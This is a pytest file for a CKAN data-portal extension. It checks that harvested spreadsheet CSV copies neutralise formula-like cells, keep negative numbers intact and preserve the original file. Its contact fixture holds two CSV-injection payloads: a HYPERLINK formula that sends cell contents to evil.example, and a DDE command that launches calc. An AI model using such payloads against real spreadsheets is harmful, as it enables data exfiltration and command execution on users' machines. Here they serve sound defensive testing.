"""The spreadsheet harvester's normalised CSV copy is a file people open in a
spreadsheet program: a text cell that would run as a formula is neutralised
in it (exports.py), numbers (negative ones too) are left alone, and the OPD's
original file is kept byte for byte. Harvested on the real stack, downloaded
over HTTP as anonymous."""

from __future__ import annotations

import csv
import io
from typing import Any
from urllib.parse import urlsplit

import pytest
from ckan.plugins import toolkit as tk
from spreadsheet_support import Harvests
from test_spreadsheet_harvest import dataset_name, inventory, row

from ckanext.satudata import exports
from ckanext.satudata.harvesters.spreadsheet import sheet

TITLE = "Jumlah Puskesmas dan Perubahan Tenaga menurut Kecamatan di Kabupaten Paser"
CONTACTS = [
    '=HYPERLINK("http://evil.example/?d="&A2,"Hubungi kami")',
    "+62 543 21001",
    "@pkm_tanah_grogot",
    "-1+1+cmd|' /C calc'!A0",
    "Jl. Jenderal Sudirman",
]
DATA = [
    ["kecamatan", "tahun", "puskesmas", "perubahan_tenaga", "kontak"],
    *[
        [name, 2024, count, change, contact]
        for name, count, change, contact in zip(
            ["Batu Sopang", "Tanjung Harapan", "Paser Belengkong", "Tanah Grogot", "Kuaro"],
            [2, 1, 3, 4, 2],
            [-3, 2, -1, 5, 0],
            CONTACTS,
            strict=True,
        )
    ],
]


def _csv(rows: list[list[Any]]) -> bytes:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    return out.getvalue().encode()


def test_to_csv_neutralises_formulas_and_keeps_numbers() -> None:
    table = sheet.normalise(_csv(DATA))
    rows = list(csv.reader(io.StringIO(table.to_csv().decode())))
    assert [r[4] for r in rows[1:]] == [exports.neutralise(c) for c in CONTACTS]
    assert [r[3] for r in rows[1:]] == ["-3", "2", "-1", "5", "0"]
    assert not any(exports.is_formula_like(cell) for r in rows for cell in r)
    verbatim = list(csv.reader(io.StringIO(table.to_csv(neutralise_formulas=False).decode())))
    assert [r[4] for r in verbatim[1:]] == CONTACTS


@pytest.mark.parametrize("neutralise", [True, False])
def test_the_harvested_copy_is_safe_and_the_original_exact(
    app: Any, harvests: Harvests, monkeypatch: pytest.MonkeyPatch, neutralise: bool
) -> None:
    monkeypatch.setitem(tk.config, "ckanext.satudata.exports.neutralise_formulas", neutralise)
    original = _csv(DATA)
    harvests.server.put("opd/daftar_data.csv", inventory(row("DDD-009", TITLE, "puskesmas.csv")))
    harvests.server.put("opd/puskesmas.csv", original)
    harvests.configure()
    result = harvests.run()
    assert result.gather_errors == [] and result.object_errors == []

    shown = app.get("/api/action/package_show", query_string={"id": dataset_name(TITLE)})
    clean, kept = shown.json["result"]["resources"]
    copy = app.get(urlsplit(clean["url"]).path).data.decode("utf-8")
    rows = list(csv.reader(io.StringIO(copy)))
    expected = [exports.neutralise(c) for c in CONTACTS] if neutralise else CONTACTS
    assert [r[4] for r in rows[1:]] == expected
    assert [r[3] for r in rows[1:]] == ["-3", "2", "-1", "5", "0"]
    assert app.get(urlsplit(kept["url"]).path).data == original
